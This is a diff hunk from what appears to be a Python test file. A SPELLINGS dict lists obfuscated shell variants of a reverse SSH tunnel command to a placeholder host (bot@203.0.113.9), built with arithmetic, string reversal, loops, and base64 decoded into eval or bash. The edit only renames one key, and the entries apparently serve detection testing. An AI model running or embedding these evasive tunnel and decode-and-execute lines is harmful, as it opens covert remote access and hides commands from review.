@@ -47,7 +47,7 @@ SPELLINGS = {
     "arithmetic": "ssh -N -R $((7000+1)):localhost:$((0x16)) bot@$((2#11001011)).0.$((113)).$((3**2))",
     "counting down a string": f"w=hss; o=; for ((i=${{#w}}-1; i>=0; i--)); do o+=${{w:i:1}}; done; $o {REST}",
     "a counted while": f"w=ssh; o=; i=0; while [ $i -lt ${{#w}} ]; do o=$o${{w:$i:1}}; i=$((i+1)); done; $o {REST}",
-    "an endless loop that breaks": f"w=ssh; i=0; while :; do o+=${{w:i:1}}; ((i++)); ((i>=3)) && break; done; $o {REST}",
+    "a loop that breaks": f"w=ssh; i=0; while :; do o+=${{w:i:1}}; ((i++)); ((i>=3)) && break; done; $o {REST}",
     "eval of base64": f'eval "$(echo {B64} | base64 -d)"',
     "base64 into a shell": f"printf %s {B64} | base64 --decode | bash",
     "here-string, process substitution": f"bash <(base64 -d <<< {B64})",
